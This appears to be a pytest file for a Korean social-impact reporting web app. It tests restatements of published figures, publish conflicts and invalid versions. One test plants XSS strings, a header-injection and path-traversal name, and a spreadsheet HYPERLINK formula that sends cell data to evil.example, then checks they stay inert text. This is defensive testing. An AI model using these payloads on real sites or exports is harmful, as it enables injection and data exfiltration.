"""Restatements at their edges (what the reviewer tried): what a restatement may name, how it
attributes a programme renamed or dropped, an indicator newly chosen or taken out of the totals,
definitions that cannot be mixed; two publications of one year at once; hostile names in the
public pages and the downloaded reports."""

from __future__ import annotations

import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from gachi.db.models import DataPoint, Programme
from gachi.db.tenancy import TenantRepository
from web.data_helpers import korean
from web.helpers import post
from web.publishing_helpers import (
    measure_and_publish,
    mentoring,
    mentoring_org,
    publish,
    rename_org,
    set_definition,
)
from web.runs_helpers import add_programme, run_to_end, set_point


def _restated(client: TestClient, org: int, reason: str = "정정") -> None:
    assert run_to_end(client, org)["status"] == "done"
    made = publish(client, org, 2024, reason)
    assert made.status_code == 201, made.text


def _restatement(anonymous: TestClient, org: int) -> dict:
    return anonymous.get(f"/api/v1/public/{org}/2024").json()["restatement"]


def test_a_restatement_names_no_programme_or_input_that_was_not_published(
    client, engine, anonymous
) -> None:
    found = mentoring_org(client, engine)
    org = found.org
    # A programme with data but no indicator (never in a book), and an input of the published
    # programme that none of its indicators reads.
    secret = add_programme(engine, org, "비공개사업-31", [], {(2024, "secret_budget"): 5})
    add_programme(engine, org, "다른사업", ["my_mentoring"], {(2024, "hours"): 1})
    with Session(engine) as db:
        TenantRepository(db, org).add(
            DataPoint(programme_id=found.programme, period=2024, name="ceo_bonus", value=1)
        )
        db.commit()
    measure_and_publish(client, org, 2024)
    set_point(engine, org, secret, 2024, "secret_budget", 7)
    set_point(engine, org, found.programme, 2024, "ceo_bonus", 2)
    set_point(engine, org, found.programme, 2024, "hours", 120)
    _restated(client, org)

    r = _restatement(anonymous, org)
    assert r["changes"]["data"] == [
        {"programme": "청소년 멘토링 사업", "input": "hours", "change": "changed"}
    ]
    assert r["changes"]["data_count"] == 1
    for url in (f"/public/{org}/2024/restatements/2", f"/api/v1/public/{org}/2024"):
        body = anonymous.get(url).text
        for secret_text in ("비공개사업-31", "secret_budget", "ceo_bonus"):
            assert secret_text not in body, (url, secret_text)


def test_a_renamed_programme_is_the_same_programme(client, engine, anonymous) -> None:
    found = mentoring_org(client, engine)
    org = found.org
    measure_and_publish(client, org, 2024)
    with Session(engine) as db:
        programme = db.get(Programme, found.programme)
        assert programme is not None
        programme.name = "청소년 멘토링 (새 이름)"
        db.commit()
    set_point(engine, org, found.programme, 2024, "hours", 120)
    _restated(client, org)
    r = _restatement(anonymous, org)
    # Not "removed" under the old name and "added" under the new one.
    assert r["changes"]["data"] == [
        {"programme": "청소년 멘토링 (새 이름)", "input": "hours", "change": "changed"}
    ]
    assert r["effects"]["data"] == pytest.approx(200_000)


def test_a_newly_chosen_indicator_and_a_dropped_programme_are_data_not_method(
    client, engine, anonymous
) -> None:
    found = mentoring_org(client, engine)
    org = found.org
    dropped = add_programme(engine, org, "두번째 사업", ["my_mentoring"], {(2024, "hours"): 10})
    measure_and_publish(client, org, 2024)
    # A shipped indicator (its definition unchanged) chosen by a new programme: 10 h × 25,156.
    add_programme(engine, org, "봉사", ["volunteering_hours"], {(2024, "volunteer_hours"): 10})
    with Session(engine) as db:
        db.delete(db.get(Programme, dropped))
        db.commit()
    _restated(client, org)
    r = _restatement(anonymous, org)
    assert r["delta"] == pytest.approx(251_560 - 100_000)
    assert r["effects"]["data"] == pytest.approx(251_560 - 100_000)
    assert r["effects"]["method"] == pytest.approx(0, abs=1e-6)
    assert r["effects"]["proxies"] == pytest.approx(0, abs=1e-6)
    assert r["residual"] == pytest.approx(0, abs=1e-6)
    by_line = {line["programme"]: line for line in r["lines"]}
    assert by_line["두번째 사업"]["after"] is None
    assert by_line["봉사"]["before"] is None


def test_taking_an_indicator_out_of_the_totals_is_the_method(client, engine, anonymous) -> None:
    org = mentoring_org(client, engine).org
    measure_and_publish(client, org, 2024)
    set_definition(engine, org, mentoring(version=2) + "in_totals: false\n")
    _restated(client, org, "멘토링은 다른 지표의 일부라 합계에서 뺌")
    r = _restatement(anonymous, org)
    # The line's value does not move, the total loses all of it: the method's doing, not an
    # unexplained difference.
    assert r["delta"] == pytest.approx(-1_000_000)
    assert r["effects"]["method"] == pytest.approx(-1_000_000)
    assert r["residual"] == pytest.approx(0, abs=1e-6)
    [line] = r["lines"]
    assert (line["delta"], line["in_totals_before"], line["in_totals"]) == (0, True, False)
    [changed] = r["changes"]["definitions"]
    assert (changed["in_totals_before"], changed["in_totals_after"]) == (True, False)
    page = anonymous.get(f"/public/{org}/2024/restatements/2").text
    assert "이번 판부터 합계에서 뺌" in page
    assert "다시 계산한 값과 공개된 값의 차이" not in page


def test_a_changed_adjustment_is_listed(client, engine, anonymous) -> None:
    org = mentoring_org(client, engine).org
    measure_and_publish(client, org, 2024)
    set_definition(engine, org, mentoring(version=2) + "adjustments: {deadweight: 0.2}\n")
    _restated(client, org)
    r = _restatement(anonymous, org)
    assert r["effects"]["method"] == pytest.approx(-200_000)
    [changed] = r["changes"]["definitions"]
    assert changed["adjustments"] == [{"name": "deadweight", "before": 0.0, "after": 0.2}]
    page = anonymous.get(f"/public/{org}/2024/restatements/2").text
    assert "사중손실: 0.0% → 20.0%" in page


def test_definitions_that_cannot_be_mixed_are_one_factor(client, engine, anonymous) -> None:
    found = mentoring_org(client, engine)
    org = found.org
    measure_and_publish(client, org, 2024)
    # The proxy is renamed: the old formula with the new proxies does not check.
    renamed = (
        mentoring(wage=12_000, version=2)
        .replace("name: wage", "name: hourly")
        .replace("hours * wage", "hours * hourly")
    )
    set_definition(engine, org, renamed)
    set_point(engine, org, found.programme, 2024, "hours", 150)
    _restated(client, org)
    r = _restatement(anonymous, org)
    # The formula changed and so did the hours it reads: not split, the whole line moved by
    # both together (100 h × 10,000 → 150 h × 12,000).
    assert r["factors"] == ["data", "definitions", "data_and_definitions"]
    assert r["effects"]["data_and_definitions"] == pytest.approx(800_000)
    assert r["effects"]["data"] == pytest.approx(0, abs=1e-6)
    assert r["residual"] == pytest.approx(0, abs=1e-6)
    assert anonymous.get(f"/public/{org}/2024/restatements/2").status_code == 200


def test_a_mix_never_measures_an_input_that_its_own_book_did_not_read(
    client, engine, anonymous
) -> None:
    found = mentoring_org(client, engine)
    org = found.org
    measure_and_publish(client, org, 2024)  # v1 reads hours: 100 h × 10,000 won
    # v2 reads sessions instead; hours changes to a value no book ever read. Measuring v1's
    # formula on v2's data would bring it out through the (public) shares.
    reads_sessions = mentoring(version=2).replace("name: hours", "name: sessions")
    set_definition(engine, org, reads_sessions.replace("hours * wage", "sessions * wage"))
    set_point(engine, org, found.programme, 2024, "hours", 4321)
    with Session(engine) as db:
        TenantRepository(db, org).add(
            DataPoint(programme_id=found.programme, period=2024, name="sessions", value=7)
        )
        db.commit()
    _restated(client, org, "측정 방식 변경")
    r = _restatement(anonymous, org)
    # A formula that reads other inputs is not mixed with either version's data: the whole
    # difference (70,000 − 1,000,000) is the definitions', whatever hours now holds, and the
    # list of changes says which input is read now and which no longer, without values.
    assert r["delta"] == pytest.approx(-930_000)
    assert r["effects"]["definitions"] == pytest.approx(-930_000)
    assert r["effects"]["data"] == pytest.approx(0, abs=1e-6)
    assert r["changes"]["data"] == [
        {"programme": "청소년 멘토링 사업", "input": "hours", "change": "no-longer-read"},
        {"programme": "청소년 멘토링 사업", "input": "sessions", "change": "now-read"},
    ]
    body = anonymous.get(f"/api/v1/public/{org}/2024").text
    assert "4321" not in body and "43210000" not in body


def test_a_new_formula_on_changed_data_is_one_cause_so_no_part_of_a_sum_comes_out(
    client, engine, anonymous
) -> None:
    found = mentoring_org(client, engine)
    org = found.org
    with Session(engine) as db:
        TenantRepository(db, org).add(
            DataPoint(programme_id=found.programme, period=2024, name="extra", value=37)
        )
        db.commit()
    # v1 publishes only the sum: (100 + 37) h × 10,000 = 1,370,000.
    summed = (
        mentoring()
        .replace(
            "  - name: hours\n",
            "  - name: hours\n    unit: hour\n    description: {ko: 시간}\n  - name: extra\n",
        )
        .replace("hours * wage", "(hours + extra) * wage")
    )
    set_definition(engine, org, summed)
    measure_and_publish(client, org, 2024)
    # v2 counts hours alone, corrected to 120. Splitting data from method would measure the
    # old formula on the new data (or the reverse), and the shares would give away hours = 100.
    set_definition(engine, org, mentoring(version=2))
    set_point(engine, org, found.programme, 2024, "hours", 120)
    _restated(client, org, "추가 시간은 따로 집계하지 않음")
    r = _restatement(anonymous, org)
    assert r["delta"] == pytest.approx(1_200_000 - 1_370_000)
    assert r["effects"]["data_and_definitions"] == pytest.approx(-170_000)
    assert all(abs(v) < 1e-6 for f, v in r["effects"].items() if f != "data_and_definitions")
    [line] = r["lines"]
    assert line["effects"]["data_and_definitions"] == pytest.approx(-170_000)


def test_the_same_year_published_twice_at_once_is_a_conflict(client, engine, monkeypatch) -> None:
    from gachi.domains.publishing import service

    found = mentoring_org(korean(client), engine)
    org = found.org
    measure_and_publish(client, org, 2024)
    set_point(engine, org, found.programme, 2024, "hours", 120)
    assert run_to_end(client, org)["status"] == "done"
    # The other request read "nothing published yet" before this one's version 1 was written.
    monkeypatch.setattr(service, "latest", lambda repo, year: None)
    lost = publish(client, org, 2024)
    assert (lost.status_code, lost.json()["error"]["code"]) == (409, "publish.conflict")
    page = post(client, f"/orgs/{org}/publications", {"year": "2024"})
    assert page.status_code == 409
    assert "방금 다른 요청으로 공개되었습니다" in page.text


def test_hostile_names_stay_text_on_public_pages_and_in_reports(client, engine, anonymous) -> None:
    found = mentoring_org(client, engine)
    org = found.org
    # Line breaks are refused in names now; a name stored before that must still not break
    # the download's headers.
    rename_org(engine, org, '<script>alert("org")</script>/..\r\nX: 1')
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    add_programme(engine, org, formula, ["my_mentoring"], {(2024, "hours"): 3})
    add_programme(
        engine, org, "<img src=x onerror=alert(1)>", ["my_mentoring"], {(2024, "hours"): 4}
    )
    measure_and_publish(client, org, 2024)
    for url in (
        "/public",
        f"/public/{org}",
        f"/public/{org}/2024",
        f"/public/{org}/2024/report.html",
    ):
        body = anonymous.get(url).text
        assert "<script>alert" not in body and "<img src=x" not in body, url
    report = anonymous.get(f"/public/{org}/2024/report.xlsx")
    disposition = report.headers["content-disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    label = disposition.split("filename*=UTF-8''")[1]
    assert "%2F" in label and "/" not in label
    workbook = load_workbook(io.BytesIO(report.content))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # Kept as text, shown as typed (the quote-prefix style, not a visible apostrophe).
    assert any(c.value == formula and c.data_type == "s" and c.quotePrefix for c in cells)


def test_a_version_that_is_not_one_says_so_in_words(client, engine, anonymous) -> None:
    org = mentoring_org(client, engine).org
    measure_and_publish(client, org, 2024)
    for version in ("abc", "0", "-1", "99999999999", "2"):
        for url in (f"/public/{org}/2024", f"/public/{org}/2024/report.pdf"):
            response = anonymous.get(f"{url}?version={version}")
            assert response.status_code == 404, (url, version)
            assert f"2024년 공시에는 그런 판이 없습니다: {version}" in response.text, (url, version)
    anonymous.cookies.set("gachi_lang", "en")
    english = anonymous.get(f"/public/{org}/2024?version=abc")
    assert "There is no version abc of 2024" in english.text
